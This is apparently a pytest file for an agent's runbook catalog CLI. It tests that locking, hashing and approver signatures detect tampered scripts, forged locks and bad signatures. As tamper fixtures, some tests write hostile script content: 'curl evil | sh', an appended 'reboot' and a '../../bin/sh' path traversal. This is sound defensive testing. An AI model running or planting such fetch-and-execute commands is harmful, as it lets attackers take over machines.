"""The lock workflow through the CLI: lock, verify (text and --json), list, show, sign, and runtime loading."""

from __future__ import annotations

import json
from collections.abc import Callable
from pathlib import Path

import pytest
from click.testing import Result
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from agent.catalog.store import Catalog
from agent.errors import RunbookNotRunnable

Cli = Callable[..., Result]
ROOT = Path(__file__).resolve().parent.parent
BUNDLED = sorted(p.name for p in (ROOT / "runbooks").iterdir() if p.suffix in (".sh", ".toml"))


def kinds(cli: Cli) -> set[tuple[str | None, str]]:
    result = cli("runbooks", "verify", "--json")
    report = json.loads(result.output)
    assert report["ok"] is (result.exit_code == 0)
    return {(p["runbook"], p["kind"]) for p in report["problems"]}


def test_bundled_catalog_verifies(agent_cli: Cli) -> None:
    result = agent_cli("runbooks", "verify")
    assert result.exit_code == 0, result.output
    assert "OK: 8 runbooks verify" in result.output


def test_relocking_an_unchanged_tree_is_byte_identical(agent_cli: Cli, catalog_dir: Path) -> None:
    before = (catalog_dir / "runbooks.lock").read_bytes()
    assert agent_cli("runbooks", "lock").exit_code == 0
    assert (catalog_dir / "runbooks.lock").read_bytes() == before


@settings(max_examples=25, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(file=st.sampled_from(BUNDLED), position=st.floats(0, 1, exclude_max=True), bit=st.integers(0, 7))
def test_any_single_byte_change_names_the_runbook(
    agent_cli: Cli, catalog_dir: Path, file: str, position: float, bit: int
) -> None:
    path = catalog_dir / "runbooks" / file
    original = path.read_bytes()
    data = bytearray(original)
    data[int(position * len(data))] ^= 1 << bit
    path.write_bytes(bytes(data))
    try:
        result = agent_cli("runbooks", "verify")
        assert result.exit_code == 1
        name = file.rsplit(".", 1)[0]
        expected = "modified_script" if file.endswith(".sh") else "modified_manifest"
        assert f"{name}: {expected}" in result.output
        assert (name, expected) in kinds(agent_cli)
    finally:
        path.write_bytes(original)


def test_each_kind_of_drift_is_reported_by_name(agent_cli: Cli, catalog_dir: Path) -> None:
    books = catalog_dir / "runbooks"
    (books / "mem_load.sh").unlink()
    (books / "disk_usage.sh").unlink()
    (books / "disk_usage.toml").unlink()
    (books / "new_one.sh").write_text("echo hi\n", encoding="utf-8", newline="\n")
    (books / "new_one.toml").write_text(
        'description = "x"\ntargets = ["all"]\nrooms = []\n', encoding="utf-8", newline="\n"
    )
    (books / "broken.sh").write_text("echo\n", encoding="utf-8", newline="\n")
    (books / "broken.toml").write_text(
        'description = "x"\ntargets = ["all"]\nrooms = []\ntimeout = "soon"\n', encoding="utf-8", newline="\n"
    )
    (books / "Bad-Name.sh").write_text("echo\n", encoding="utf-8", newline="\n")
    assert kinds(agent_cli) == {
        ("mem_load", "missing_file"),
        ("disk_usage", "stale_lock_entry"),
        ("new_one", "not_in_lock"),
        ("broken", "not_in_lock"),
        ("broken", "invalid_manifest"),
        (None, "invalid_name"),
    }
    result = agent_cli("runbooks", "verify")
    assert result.exit_code == 1
    assert "broken: invalid_manifest: broken.toml: timeout: Input should be a valid number" in result.output
    assert "mem_load: missing_file: mem_load.sh is missing" in result.output
    # Runbooks untouched by the drift stay runnable.
    report = json.loads(agent_cli("runbooks", "verify", "--json").output)
    assert report["runbooks"]["tail_log"]["verified"] is True
    assert report["runbooks"]["new_one"]["verified"] is False


def test_lock_refuses_an_invalid_manifest_and_leaves_the_lock_alone(
    agent_cli: Cli, catalog_dir: Path
) -> None:
    before = (catalog_dir / "runbooks.lock").read_bytes()
    (catalog_dir / "runbooks" / "tail_log.toml").write_text(
        'description = "x"\n', encoding="utf-8", newline="\n"
    )
    result = agent_cli("runbooks", "lock")
    assert result.exit_code == 1
    assert "tail_log: invalid_manifest: tail_log.toml: targets: Field required" in result.output
    assert (catalog_dir / "runbooks.lock").read_bytes() == before


def test_hand_edited_lock_is_refused_whole(agent_cli: Cli, catalog_dir: Path) -> None:
    lock_path = catalog_dir / "runbooks.lock"
    (catalog_dir / "runbooks" / "mem_load.sh").write_text("curl evil | sh\n", encoding="utf-8", newline="\n")
    lock = json.loads(lock_path.read_text(encoding="utf-8"))
    lock["runbooks"]["mem_load"]["script_sha256"] = "0" * 64  # a forger who does not fix the digest
    lock_path.write_text(json.dumps(lock), encoding="utf-8", newline="\n")
    problems = kinds(agent_cli)
    assert (None, "lock_edited") in problems
    report = json.loads(agent_cli("runbooks", "verify", "--json").output)
    assert not any(r["verified"] for r in report["runbooks"].values())


@pytest.mark.parametrize(
    ("content", "detail"),
    [("{not json", "not valid JSON"), ('{"format": "other/9"}', "unknown format"), ("[]", "Input should be")],
)
def test_unreadable_lock_is_reported(agent_cli: Cli, catalog_dir: Path, content: str, detail: str) -> None:
    (catalog_dir / "runbooks.lock").write_text(content, encoding="utf-8", newline="\n")
    result = agent_cli("runbooks", "verify")
    assert result.exit_code == 1
    assert "lock_invalid" in result.output and detail in result.output


def test_missing_lock(agent_cli: Cli, catalog_dir: Path) -> None:
    (catalog_dir / "runbooks.lock").unlink()
    assert (None, "lock_missing") in kinds(agent_cli)


def _keypair(agent_cli: Cli, path: Path, comment: str) -> str:
    result = agent_cli("keys", "generate", str(path), "--comment", comment, "--no-passphrase")
    assert result.exit_code == 0, result.output
    return path.with_name(path.name + ".pub").read_text(encoding="utf-8").strip()


def _config(catalog_dir: Path, *keys: str, min_signatures: int = 1) -> Path:
    path = catalog_dir / "agent.toml"
    lines = ", ".join(json.dumps(k) for k in keys)
    path.write_text(
        f"[catalog]\napprover_keys = [{lines}]\nmin_signatures = {min_signatures}\n",
        encoding="utf-8",
        newline="\n",
    )
    return path


def test_signed_lock_end_to_end(
    agent_cli: Cli, catalog_dir: Path, tmp_path_factory: pytest.TempPathFactory
) -> None:
    approver_home = tmp_path_factory.mktemp("approver")  # the private key lives outside the agent's folder
    alice = _keypair(agent_cli, approver_home / "alice", "alice")
    mallory = _keypair(agent_cli, approver_home / "mallory", "mallory")
    config = str(_config(catalog_dir, alice))

    unsigned = agent_cli("-c", config, "runbooks", "verify")
    assert unsigned.exit_code == 1
    assert "signature_missing: the lock is not signed" in unsigned.output

    assert agent_cli("-c", config, "runbooks", "sign", str(approver_home / "mallory")).exit_code == 0
    by_stranger = agent_cli("-c", config, "runbooks", "verify")
    assert by_stranger.exit_code == 1
    assert "which is not a configured approver key" in by_stranger.output

    assert agent_cli("-c", config, "runbooks", "lock", "--sign", str(approver_home / "alice")).exit_code == 0
    signed = agent_cli("-c", config, "runbooks", "verify")
    assert signed.exit_code == 0, signed.output
    assert "signed by alice" in signed.output

    # An attacker on the agent PC edits a script and re-locks: the signature no longer covers the lock.
    (catalog_dir / "runbooks" / "mem_load.sh").write_text("echo pwned\n", encoding="utf-8", newline="\n")
    assert agent_cli("-c", config, "runbooks", "lock").exit_code == 0
    relocked = agent_cli("-c", config, "runbooks", "verify")
    assert relocked.exit_code == 1
    assert "signature_missing" in relocked.output
    assert mallory  # generated, never configured


def test_forged_signature_bytes_are_refused(agent_cli: Cli, catalog_dir: Path, tmp_path: Path) -> None:
    alice = _keypair(agent_cli, tmp_path / "alice", "alice")
    config = str(_config(catalog_dir, alice))
    assert agent_cli("-c", config, "runbooks", "sign", str(tmp_path / "alice")).exit_code == 0
    lock_path = catalog_dir / "runbooks.lock"
    lock = json.loads(lock_path.read_text(encoding="utf-8"))
    sig = lock["signatures"][0]["signature"]
    lock["signatures"][0]["signature"] = ("A" if sig[0] != "A" else "B") + sig[1:]
    lock_path.write_text(json.dumps(lock), encoding="utf-8", newline="\n")
    result = agent_cli("-c", config, "runbooks", "verify")
    assert result.exit_code == 1
    assert "does not match the lock's content" in result.output


def test_two_approvers_required(agent_cli: Cli, catalog_dir: Path, tmp_path: Path) -> None:
    alice = _keypair(agent_cli, tmp_path / "alice", "alice")
    bob = _keypair(agent_cli, tmp_path / "bob", "bob")
    config = str(_config(catalog_dir, alice, bob, min_signatures=2))
    agent_cli("-c", config, "runbooks", "sign", str(tmp_path / "alice"))
    once = agent_cli("-c", config, "runbooks", "verify")
    assert once.exit_code == 1 and "1 valid approver signature(s), 2 required" in once.output
    agent_cli("-c", config, "runbooks", "sign", str(tmp_path / "bob"))
    assert agent_cli("-c", config, "runbooks", "verify").exit_code == 0


@pytest.mark.posix_only(reason="checks POSIX mode bits of the key file")
def test_encrypted_key_needs_its_passphrase(
    agent_cli: Cli, catalog_dir: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("AGENT_SIGNING_PASSPHRASE", "correct horse")
    line = (
        agent_cli("keys", "generate", str(tmp_path / "k"), "--comment", "k").output.splitlines()[-1].strip()
    )
    assert b"ENCRYPTED" in (tmp_path / "k").read_bytes()
    assert oct((tmp_path / "k").stat().st_mode & 0o777) == "0o600"
    config = str(_config(catalog_dir, line))
    monkeypatch.setenv("AGENT_SIGNING_PASSPHRASE", "wrong")
    wrong = agent_cli("-c", config, "runbooks", "sign", str(tmp_path / "k"))
    assert wrong.exit_code == 2 and "passphrase is wrong" in wrong.output
    monkeypatch.setenv("AGENT_SIGNING_PASSPHRASE", "correct horse")
    assert agent_cli("-c", config, "runbooks", "sign", str(tmp_path / "k")).exit_code == 0
    assert agent_cli("-c", config, "runbooks", "verify").exit_code == 0
    again = agent_cli("keys", "generate", str(tmp_path / "k"))
    assert again.exit_code == 2 and "already exists" in again.output


def test_sign_refuses_a_tree_that_does_not_match_the_lock(
    agent_cli: Cli, catalog_dir: Path, tmp_path: Path
) -> None:
    _keypair(agent_cli, tmp_path / "alice", "alice")
    (catalog_dir / "runbooks" / "tail_log.sh").write_text("echo changed\n", encoding="utf-8", newline="\n")
    result = agent_cli("runbooks", "sign", str(tmp_path / "alice"))
    assert result.exit_code == 1
    assert "tail_log: modified_script" in result.output
    assert json.loads((catalog_dir / "runbooks.lock").read_text(encoding="utf-8"))["signatures"] == []


@pytest.mark.parametrize(
    ("config", "problems"),
    [
        (
            "[catalog]\napprover_keys = ['ssh-rsa AAAA x']\n",
            ["catalog.approver_keys: approver key #1: not an"],
        ),
        (
            "agent_id = 'a b'\nextra = 1\n[catalog]\nmin_signatures = 0\n",
            [
                "agent_id: String should match",
                "extra: Extra inputs",
                "catalog.min_signatures: Input should be",
            ],
        ),
        ("[catalog\n", ["not valid TOML"]),
    ],
)
def test_bad_config_lists_every_problem_and_exits_2(
    agent_cli: Cli, catalog_dir: Path, config: str, problems: list[str]
) -> None:
    (catalog_dir / "agent.toml").write_text(config, encoding="utf-8", newline="\n")
    result = agent_cli("-c", "agent.toml", "runbooks", "verify")
    assert result.exit_code == 2
    for problem in problems:
        assert problem in result.output
    missing = agent_cli("-c", "nope.toml", "config", "check")
    assert missing.exit_code == 2 and "cannot read" in missing.output


def test_config_paths_are_relative_to_the_config_file(
    agent_cli: Cli, catalog_dir: Path, tmp_path: Path
) -> None:
    elsewhere = tmp_path / "etc"
    elsewhere.mkdir()
    (elsewhere / "agent.toml").write_text(
        "[catalog]\ndir = '../runbooks'\nlock = '../runbooks.lock'\n", encoding="utf-8", newline="\n"
    )  # from the working directory (catalog_dir) '../runbooks' would not exist
    assert agent_cli("-c", str(elsewhere / "agent.toml"), "runbooks", "verify").exit_code == 0


def test_list_and_show(agent_cli: Cli, catalog_dir: Path) -> None:
    (catalog_dir / "runbooks" / "mem_load.sh").write_text("echo changed\n", encoding="utf-8", newline="\n")
    rows = {r["name"]: r for r in json.loads(agent_cli("runbooks", "list", "--json").output)}
    assert set(rows) == {p.rsplit(".", 1)[0] for p in BUNDLED}
    assert rows["mem_load"]["verified"] is False
    assert rows["service_restart"]["changes_state"] is True and rows["service_restart"]["targets"] == [
        "was",
        "web",
    ]
    text = agent_cli("runbooks", "show", "tail_log").output
    assert "argv:          bash -s -- DIR FILE [--lines LINES]" in text
    assert "lines (default 100): a whole number from 1 to 2000" in text
    shown = json.loads(agent_cli("runbooks", "show", "mem_load", "--json").output)
    assert shown["verified"] is False and "modified_script" in shown["problems"][0]
    assert agent_cli("runbooks", "show", "nope").exit_code == 1


def test_load_rehashes_the_bytes_at_run_time(catalog_dir: Path) -> None:
    catalog = Catalog(catalog_dir / "runbooks", catalog_dir / "runbooks.lock")
    assert catalog.verify().ok
    runbook = catalog.load("disk_usage")
    assert runbook.script == (catalog_dir / "runbooks" / "disk_usage.sh").read_bytes()
    (catalog_dir / "runbooks" / "disk_usage.sh").write_bytes(runbook.script + b"\nreboot\n")
    with pytest.raises(RunbookNotRunnable, match="its script changed since it was locked"):
        catalog.load("disk_usage")
    with pytest.raises(RunbookNotRunnable, match="no such runbook"):
        catalog.load("../../bin/sh")


def test_a_runbook_failing_at_start_stays_refused(catalog_dir: Path) -> None:
    (catalog_dir / "runbooks" / "tail_log.toml").write_text(
        'description = "x"\ntargets=["all"]\nrooms=[]\n', encoding="utf-8", newline="\n"
    )
    catalog = Catalog(catalog_dir / "runbooks", catalog_dir / "runbooks.lock")
    catalog.verify()
    with pytest.raises(RunbookNotRunnable, match="manifest changed since it was locked"):
        catalog.load("tail_log")
    assert catalog.load("mem_load").name == "mem_load"
